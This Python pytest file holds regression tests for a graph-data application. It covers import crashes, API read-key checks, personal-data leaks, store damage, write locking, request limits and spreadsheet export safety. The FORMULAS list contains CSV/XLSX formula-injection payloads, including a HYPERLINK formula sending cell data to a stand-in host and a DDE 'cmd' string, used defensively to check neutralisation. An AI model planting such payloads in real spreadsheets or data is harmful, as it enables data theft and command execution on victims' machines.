"""Regression tests for the defects of issue 19: each failed before its fix."""

from __future__ import annotations

import contextlib
import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from graph.resolve.blocking import _unique, scored_pairs
from graph.settings import Settings
from graph.store import GraphStore
from tests.import_helpers import imp, isettings

HEADER = ["Nr", "Tittel", "Prosjektleder", "Tjenesteområde", "Startdato", "Saksnummer"]


def _project_list(path: Path, n: int, *, case_numbers: bool) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(HEADER)
        for i in range(1, n + 1):
            sak = f"2022{i:06d}-1" if case_numbers else ""
            w.writerow([i, f"Prosjekt {i}", f"Person {i % 50}", f"Område {i % 7}", "1.2.2022", sak])
    return path


def test_unique_of_no_pairs_is_empty() -> None:
    """Item 9's cause: `_unique` of an empty array indexed it with a mask of length 1."""
    assert _unique(np.zeros(0, dtype=np.int64)).tolist() == []
    assert _unique(np.array([3, 1, 3], dtype=np.int64)).tolist() == [1, 3]
    # a list with itself where the only pairs blocking finds are each name with itself
    names = [f"prosjekt {i}" for i in range(1, 1200)]
    assert scored_pairs(names, None, 99.5) == []


def test_second_numbered_project_list_imports(
    store: GraphStore, settings: Settings, tmp_path: Path
) -> None:
    """Item 9: a valid second project list, 1,000+ numbered rows whose names match projects
    already in the graph, crashed the import with an IndexError."""
    s = isettings(settings, tmp_path)
    first = imp(
        store,
        s,
        _project_list(tmp_path / "liste-1.csv", 1100, case_numbers=True),
        mapping="prosjektportalen",
    )
    assert first.plan.rows == 1100
    second = imp(
        store,
        s,
        _project_list(tmp_path / "liste-2.csv", 1100, case_numbers=False),
        mapping="prosjektportalen",
    )
    assert second.plan.rows == 1100 and not second.plan.rejected
    # the same names, now without case numbers: the same projects, each row's provenance added
    assert store.stats()["nodes"]["Initiative"] == 1100
    node = store.node("initiative:sak:2022000007-1")
    assert node is not None and node["name"] == "Prosjekt 7"
    assert sorted(node["sources"]) == ["liste-1.csv:8", "liste-2.csv:8"]


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]


def test_exported_xlsx_has_no_live_formulas(store: GraphStore) -> None:
    """Item 4: names starting with =, +, -, @ were written to the XLSX export as formulas."""
    import io

    from openpyxl import load_workbook

    from graph.export import export
    from graph.records import GraphBatch, make_node

    batch = GraphBatch()
    for text in FORMULAS:
        batch.add_node(make_node("Organisation", text, {"description": text}, ["ondsinnet.csv:2"]))
    store.upsert(batch)
    wb = load_workbook(io.BytesIO(export(store, "xlsx")))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {str(c.value) for c in cells}
    for text in FORMULAS:
        assert "'" + text in texts and text not in texts


def test_rejected_rows_csv_has_no_live_formulas(
    store: GraphStore, settings: Settings, tmp_path: Path
) -> None:
    """Item 4: the `--rejected` CSV passed a rejected row's cells through raw."""
    from importers.run import write_rejected

    path = tmp_path / "liste.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(HEADER)
        w.writerow([1, "Prosjekt 1", "Ola Nordmann", "Helse", "1.2.2022", ""])
        for i, text in enumerate(FORMULAS, start=2):
            w.writerow([i, text, text, "Helse", "31.02.2022", ""])  # no 31 February
    report = imp(
        store, isettings(settings, tmp_path), path, mapping="prosjektportalen", skip_bad_rows=True
    )
    assert len(report.plan.rejected) == len(FORMULAS)
    out = write_rejected(report, tmp_path / "avvist.csv")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    for text in FORMULAS:
        assert "'" + text in cells


#: routes that stay open with SAMGRAF_READ_KEY_REQUIRED, and why: none returns graph data
OPEN_ROUTES = {
    "/health": "status and a node count, for load balancers and container health checks",
    "/": "the explorer page itself (HTML and script, no graph data)",
    "/explorer": "the same page",
    "/static/{name}": "the explorer's script and style",
    "/openapi.json": "the API's description",
    "/docs": "the API's documentation page",
    "/docs/oauth2-redirect": "part of the documentation page",
    "/redoc": "the API's documentation page",
}


def _routes(routes: list[Any]) -> Iterator[Any]:
    """Every route, also inside included routers (FastAPI ≥ 0.16x includes them lazily)."""
    for route in routes:
        if hasattr(route, "original_router"):
            yield from _routes(route.original_router.routes)
        else:
            yield route


def test_every_route_obeys_the_read_policy(loaded: GraphStore, tmp_path: Path) -> None:
    """Item 3: with SAMGRAF_READ_KEY_REQUIRED=true, /nodes, /nodes/{id}, /views/{id}.html
    and /explorer/* answered without a key. Walks every route of the app."""
    from fastapi.testclient import TestClient
    from starlette.routing import Route

    from api.app import create_app
    from tests.test_api_v1 import READ_KEY, app_settings

    app = create_app(loaded, app_settings(tmp_path, read_key_required=True))
    checked = []
    with TestClient(app) as c:
        for route in _routes(app.routes):
            if not isinstance(route, Route) or route.path in OPEN_ROUTES:
                continue
            path = route.path.replace("{", "").replace("}", "")  # any value: checked first
            path = path.replace(":path", "")
            for method in sorted((route.methods or set()) - {"HEAD", "OPTIONS"}):
                r = c.request(method, path, json={})
                assert r.status_code == 401, (method, route.path, r.status_code, r.text[:200])
                checked.append(f"{method} {route.path}")
        assert len(checked) >= 25
        # the routes the defect named, and that a read key opens them
        for named in ("GET /nodes", "GET /nodes/{node_id}", "GET /views/{node_id}.html"):
            assert named in checked
        assert any(x.startswith("GET /explorer/") for x in checked)
        key = {"X-API-Key": READ_KEY}
        assert c.get("/nodes", params={"q": "NAV"}, headers=key).status_code == 200
        assert c.get("/explorer/graph", headers=key).status_code == 200
        assert c.get("/health").status_code == 200


def test_review_and_person_ids_carry_no_personal_data(
    store: GraphStore, settings: Settings, tmp_path: Path
) -> None:
    """Item 2: GET /api/v1/review showed merge evidence with e-mail addresses ("samme email:
    …"), and the e-mail hash in person ids could be reversed by guessing addresses."""
    import hashlib

    from fastapi.testclient import TestClient

    from api.app import create_app
    from graph.ids import email_digest, id_secret
    from tests.test_api_v1 import WRITE_KEY, app_settings

    email = "kari.nordmann@kristiansand.kommune.no"
    path = tmp_path / "personer.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["Navn", "Rolle", "Satsing", "Organisasjon", "E-post"])
        w.writerow(["Kari Nordmann", "Deltaker", "Flere i arbeid", "", email])
        w.writerow(["K. Nordmann", "Prosjektleder", "Soslokal", "", email.upper()])
        w.writerow(["Kari Nordmann", "Deltaker", "Soslokal", "", "kari@nav.no"])
    s = isettings(settings, tmp_path)
    report = imp(store, s, path, mapping="person-roles")
    assert report.resolution.auto or report.resolution.review
    # ids: a keyed hash, not the plain SHA-256 that a guess of the address reproduces
    people = [n for n in store.all_nodes() if n["label"] == "Person"]
    plain = hashlib.sha256(email.encode()).hexdigest()[:10]
    assert people and not any(plain in n["id"] for n in people)
    assert any(email_digest(email) in n["id"] for n in people)
    assert len(id_secret()) >= 32
    with TestClient(create_app(store, app_settings(tmp_path))) as c:
        public = c.get("/api/v1/review", params={"status": "all"})
        assert public.status_code == 200 and public.json()
        assert "@" not in public.text and "nav.no" not in public.text
        for item in public.json():
            one = c.get(f"/api/v1/review/{item['id']}")
            assert one.status_code == 200 and "@" not in one.text
        # the internal scope (a write key) sees the evidence the queue keeps
        internal = c.get(
            "/api/v1/review", params={"status": "all"}, headers={"X-API-Key": WRITE_KEY}
        )
        assert internal.status_code == 200


def test_long_cell_does_not_crash_the_store_and_the_api_recovers(tmp_path: Path) -> None:
    """Item 1: a cell of ~4,500 characters made the embedded FalkorDB server segfault during
    the import (its unique-id constraint crashes on a value over 4,096 bytes), and then every
    request, /health included, answered 500 until the API was restarted."""
    import os
    import signal

    from fastapi.testclient import TestClient

    from api.app import create_app
    from graph.embedded import EmbeddedServer
    from tests.conftest import make_settings
    from tests.test_api_v1 import app_settings

    db = tmp_path / "db"
    settings = make_settings("embedded", db, graph="lang")
    store = GraphStore.open(settings)
    try:
        path = tmp_path / "lang.csv"
        title = "Prosjekt " + "med en svært lang tittel " * 180  # ~4,500 characters
        with open(path, "w", encoding="utf-8", newline="") as fh:
            w = csv.writer(fh, delimiter=";")
            w.writerow(["Tittel", "Prosjektleder", "Beskrivelse"])
            w.writerow([title, "Ola Nordmann", "Samhandling " * 2000])
            w.writerow(["Prosjekt " + "æøå " * 1500, "Kari Nordmann", ""])  # 2 bytes a letter
        report = imp(store, isettings(settings, tmp_path), path, mapping="prosjektportalen")
        assert report.plan.rows == 2
        nodes = [n for n in store.all_nodes() if n["label"] == "Initiative"]
        assert len(nodes) == 2
        assert all(len(n["id"].encode()) < 200 for n in nodes)
        assert {n["name"] for n in nodes} >= {title.strip()}  # the name is kept whole
        # the server dies under the API (as the crash did): the API starts it again itself
        with TestClient(create_app(store, app_settings(db))) as c:
            assert c.get("/health").json()["nodes"] > 0
            pid = int((db / "server.pid").read_text())
            os.kill(pid, signal.SIGKILL)
            health = c.get("/health")
            assert health.status_code == 200, health.text
            assert health.json()["nodes"] == len(store.all_nodes()) > 0
            assert int((db / "server.pid").read_text()) != pid
    finally:
        store.close()
        EmbeddedServer(db).stop()


def _damaged_store(tmp_path: Path, damage: str) -> tuple[Path, Path]:
    """A stopped embedded store with data, damaged as `damage` says."""
    from graph.embedded import EmbeddedServer
    from tests.test_store import small_batch

    db = tmp_path / damage
    store = GraphStore.open(Settings(store="embedded", db_path=db, graph_name="skade"))
    store.upsert(small_batch(40))
    store.close()
    EmbeddedServer(db).stop()
    aof = db / "appendonlydir"
    if damage == "halv":
        incr = next(aof.glob("*.incr.aof"))
        incr.write_bytes(incr.read_bytes()[: incr.stat().st_size // 2])
        return db, incr
    if damage == "nullet":
        base = next(aof.glob("*.base.*"))
        base.write_bytes(b"\0" * base.stat().st_size)
        return db, base
    if damage == "uten-manifest":
        next(aof.glob("*.manifest")).unlink()
        return db, next(aof.glob("*.incr.aof"))
    import shutil

    shutil.rmtree(aof)  # "borte": the data files are gone
    return db, aof


@pytest.mark.parametrize("damage", ["halv", "nullet", "uten-manifest", "borte"])
def test_a_damaged_store_is_refused_not_emptied(tmp_path: Path, damage: str) -> None:
    """Item 6: with half the append-only file cut off the store started with almost nothing
    and Redis truncated the file for good; a zeroed base file or a missing manifest started an
    empty graph, silently. Now: refused, files kept as they were plus a copy, advice given."""
    from graph.embedded import EmbeddedServer, StoreDamagedError

    db, damaged = _damaged_store(tmp_path, damage)
    size = damaged.stat().st_size if damaged.is_file() else None
    with pytest.raises(StoreDamagedError, match="skadet og ble ikke startet") as info:
        GraphStore.open(Settings(store="embedded", db_path=db, graph_name="skade"))
    assert "--repair" in str(info.value) and "sikkerhetskopi" in str(info.value)
    if size is not None:
        assert damaged.stat().st_size == size  # never truncated
        copies = list(db.glob("skadet-*/appendonlydir"))
        assert copies and (copies[0] / damaged.name).exists()
    assert not (db / "server.pid").exists()
    EmbeddedServer(db).stop()


def test_repair_starts_a_damaged_store_with_what_can_be_read(tmp_path: Path) -> None:
    """`samgraf db start --repair`: a lost manifest is rebuilt and every node comes back."""
    from graph.embedded import EmbeddedServer

    db, _ = _damaged_store(tmp_path, "uten-manifest")
    EmbeddedServer(db, repair=True).ensure()
    store = GraphStore.open(Settings(store="embedded", db_path=db, graph_name="skade"))
    try:
        assert store.stats()["nodes"] == {"Initiative": 41}
    finally:
        store.close()
        EmbeddedServer(db).stop()


def test_cli_reports_a_damaged_store_without_a_traceback(tmp_path: Path) -> None:
    from tests.conftest import cli_env, run_samgraf

    db, _ = _damaged_store(tmp_path, "nullet")
    with cli_env(db, "skade") as env:
        r = run_samgraf(env, "stats", check=False)
    assert r.returncode == 1
    assert "Feil:" in r.stderr and "skadet" in r.stderr and "Traceback" not in r.stderr


def _partners(path: Path, rows: list[tuple[str, str]], extra: int = 0) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(["Partner", "Partnertype", "Satsing", "Rolle"])
        for partner, initiative in rows:
            w.writerow([partner, "Organisasjon", initiative, "samarbeidspartner"])
        for i in range(extra):  # rows that make the import take a while
            w.writerow([f"Leverandør nummer {i}", "Organisasjon", f"Prosjekt {i}", "leverandør"])
    return path


def test_concurrent_writes_equal_sequential_ones(
    store: GraphStore,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Item 5: a write that is not an import took no lock, so a concurrent import's graph
    swap restored what it deleted; two imports at once skipped merges that one after the other
    makes and left duplicates. All writers now hold one write lock."""
    import threading
    import time

    s = isettings(settings, tmp_path)
    start = _partners(tmp_path / "start.csv", [("Gamle Partner AS", "Satsing A")])
    imp(store, s, start, mapping="partners")
    assert store.node("organisation:gamle-partner-as") is not None
    a = _partners(tmp_path / "a.csv", [("NAV Agder", "Flere i arbeid")], extra=300)
    # the same organisation under its full name: one after the other, it is merged into NAV Agder
    b = _partners(tmp_path / "b.csv", [("Arbeids- og velferdsetaten Agder", "Soslokal")])
    writing = threading.Event()
    upsert_in = store.upsert_in

    def slow_upsert_in(*args: Any, **kw: Any) -> Any:  # the first import, half-way
        writing.set()
        time.sleep(1.0)
        return upsert_in(*args, **kw)

    monkeypatch.setattr(store, "upsert_in", slow_upsert_in)
    errors: list[BaseException] = []

    def run(path: Path) -> None:
        try:
            imp(store, s, path, mapping="partners")
        except BaseException as exc:  # reported below
            errors.append(exc)

    first = threading.Thread(target=run, args=(a,))
    first.start()
    assert writing.wait(60), "the first import never got to writing"
    second = threading.Thread(target=run, args=(b,))
    second.start()
    time.sleep(0.2)
    # a write that is not an import, while the first import writes
    store.run_text(
        "MATCH (n:Node {id: $id}) DETACH DELETE n",
        {"id": "organisation:gamle-partner-as"},
        write=True,
    )
    first.join(120)
    second.join(120)
    assert not errors, errors
    # the deletion stayed deleted, and NAV Agder is one node, as one after the other gives
    assert store.node("organisation:gamle-partner-as") is None
    navs = [n for n in store.all_nodes() if "Agder" in n["name"] and n["label"] == "Organisation"]
    assert [n["name"] for n in navs] == ["NAV Agder"], navs


def test_request_bodies_are_bounded_on_every_route(loaded: GraphStore, tmp_path: Path) -> None:
    """Item 8: a 600 MB body to /explorer/subgraph grew the server to 2.5 GB. A declared
    length over the limit is refused unread; a streamed (chunked) body is stopped at it."""

    from fastapi.testclient import TestClient

    from api.app import create_app
    from tests.test_api_v1 import app_settings

    with TestClient(create_app(loaded, app_settings(tmp_path))) as c:
        r = c.post(
            "/explorer/subgraph",
            content=b"{}",
            headers={"content-length": str(600 * 1024 * 1024), "content-type": "application/json"},
        )
        assert r.status_code == 413 and "MB" in r.json()["detail"]

        # a body without a declared length, streamed to a real server on 127.0.0.1
        assert _chunked_post_status(c.app, "/explorer/subgraph", 64 * 1024 * 1024) == 413
        # an ordinary body still works
        ok = c.post("/explorer/subgraph", json={"ids": ["organisation:nav"]})
        assert ok.status_code == 200


@contextlib.contextmanager
def _serving(app: Any) -> Iterator[int]:
    """`app` (already started by a TestClient, so its store is open) served by uvicorn on
    127.0.0.1 in a thread; yields the port, stops the server at the end."""
    import threading
    import time

    import uvicorn

    config = uvicorn.Config(app, host="127.0.0.1", port=0, log_level="error", lifespan="off")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    for _ in range(200):
        if server.started:
            break
        time.sleep(0.05)
    try:
        yield server.servers[0].sockets[0].getsockname()[1]
    finally:
        server.should_exit = True
        thread.join(10)


def _chunked_post_status(app: Any, path: str, total: int) -> int:
    """POST `total` bytes in chunks (no Content-Length) to `app` served by uvicorn on
    127.0.0.1; stops sending when the server answers. Returns the status; asserts the server
    answered long before the whole body was sent, and that memory stayed small."""
    import socket
    import tracemalloc

    from api.middleware import DEFAULT_BODY

    tracemalloc.start()
    sent = 0
    try:
        with (
            _serving(app) as port,
            socket.create_connection(("127.0.0.1", port), timeout=10) as sock,
        ):
            sock.sendall(
                f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
            )
            chunk = b"a" * 65536
            sock.settimeout(0.001)
            answer = b""
            while sent < total:
                try:
                    sock.sendall(b"10000\r\n" + chunk + b"\r\n")
                except (BlockingIOError, TimeoutError, BrokenPipeError, ConnectionResetError):
                    break
                sent += len(chunk)
                try:
                    answer += sock.recv(4096)
                except (BlockingIOError, TimeoutError):
                    continue
                except ConnectionResetError:
                    break
                if answer:
                    break
            sock.settimeout(10)
            with contextlib.suppress(OSError):
                while b"\r\n" not in answer:
                    more = sock.recv(4096)
                    if not more:
                        break
                    answer += more
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert sent < total / 4, f"the server read {sent / 2**20:.0f} MB before answering"
    assert peak < 16 * DEFAULT_BODY, f"peak {peak / 2**20:.0f} MB"
    return int(answer.split(b" ")[1])


def test_repeated_list_values_do_not_multiply_the_work(loaded: GraphStore, tmp_path: Path) -> None:
    """Item 8: 5,000 copies of one rel_type kept the store busy 67 s."""
    import time

    from fastapi.testclient import TestClient

    from api.app import create_app
    from tests.test_api_v1 import app_settings

    params = {"from": "municipality:4204", "to": "organisation:nav", "k": 3, "max_hops": 4}
    with TestClient(create_app(loaded, app_settings(tmp_path, api_cache_seconds=0))) as c:
        one = c.get("/api/v1/paths", params={**params, "rel_types": "PARTNER_IN,PART_OF"})
        t0 = time.perf_counter()
        many = c.get(
            "/api/v1/paths",
            params={**params, "rel_types": ",".join(["PARTNER_IN", "PART_OF"] * 2500)},
        )
        assert time.perf_counter() - t0 < 10
        assert many.status_code == 200 and many.json() == one.json()
        too_many = ",".join(f"TYPE_{i}" for i in range(1001))
        r = c.get("/api/v1/paths", params={**params, "rel_types": too_many})
        assert r.status_code == 422


def test_exports_are_cached_and_limited_per_client(
    loaded: GraphStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Item 8: each XLSX export of a large graph took a minute and 1.8 GB, uncached, for
    anyone. Now one per graph version and format is made; a client's budget is bounded."""
    from fastapi.testclient import TestClient

    import api.routes.v1_export as v1_export
    from api.app import create_app
    from tests.test_api_v1 import app_settings

    made: list[str] = []
    real = v1_export.export

    def counting(store: GraphStore, fmt: str, public: bool = True) -> bytes:
        made.append(fmt)
        return real(store, fmt, public=public)

    monkeypatch.setattr(v1_export, "export", counting)
    monkeypatch.setattr(v1_export, "CLIENT_BUDGET", 2)
    with TestClient(create_app(loaded, app_settings(tmp_path, api_cache_seconds=0))) as c:
        first = c.get("/api/v1/export", params={"format": "xlsx"})
        again = c.get("/api/v1/export", params={"format": "xlsx"})
        assert first.status_code == again.status_code == 200
        assert first.content == again.content and made == ["xlsx"]  # the second from cache
        assert c.get("/api/v1/export", params={"format": "gexf"}).status_code == 200
        refused = c.get("/api/v1/export", params={"format": "graphml"})  # a third new one
        assert refused.status_code == 429 and int(refused.headers["retry-after"]) > 0
        assert made == ["xlsx", "gexf"]


def test_an_abandoned_upload_stops_importing(store: GraphStore, tmp_path: Path) -> None:
    """Item 8: an upload whose client went away kept importing at 100 % CPU. Now the import
    stops within a thousand rows of the disconnect and writes nothing."""
    import socket
    import time
    import uuid

    from fastapi.testclient import TestClient

    from api.app import create_app
    from tests.test_api_v1 import WRITE_KEY, app_settings

    path = _project_list(tmp_path / "stor.csv", 60_000, case_numbers=False)
    before = store.stats()
    app = create_app(store, app_settings(tmp_path))
    with TestClient(app), _serving(app) as port:  # TestClient opens the app's store
        boundary = uuid.uuid4().hex
        body = (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="mapping"\r\n\r\n'
                f"prosjektportalen\r\n--{boundary}\r\nContent-Disposition: form-data; "
                f'name="file"; filename="stor.csv"\r\nContent-Type: text/csv\r\n\r\n'
            ).encode()
            + path.read_bytes()
            + f"\r\n--{boundary}--\r\n".encode()
        )
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(
                f"POST /api/v1/imports HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-Key: {WRITE_KEY}"
                f"\r\nContent-Type: multipart/form-data; boundary={boundary}\r\n"
                f"Content-Length: {len(body)}\r\n\r\n".encode()
                + body
            )
            time.sleep(1.5)  # the import has started reading rows
        gone = time.perf_counter()  # the client is gone
        # the import gives the write lock back when it stops
        store.dialect.lock_wait = 60
        with store.dialect.write_lock():
            stopped = time.perf_counter() - gone
    assert stopped < 15, f"the import ran {stopped:.0f} s after the client left"
    assert store.stats() == before  # nothing written
